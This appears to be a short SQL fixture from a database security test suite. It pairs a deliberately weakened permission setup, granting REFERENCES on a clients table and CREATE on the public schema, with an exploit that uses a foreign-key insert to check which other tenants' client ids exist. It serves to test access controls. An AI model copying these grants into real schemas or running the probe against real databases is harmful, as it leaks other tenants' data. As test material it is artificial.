-- mutant: API users may make tables and refer to the registry, and a foreign key asks no policy
-- base: flows
-- family: foreign-key
-- leaks: which clients exist
grant references (id) on flows.clients to authenticated;
grant usage, create on schema public to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
create table public.probe (id uuid references flows.clients (id));
insert into public.probe values ('{{b}}') returning id;
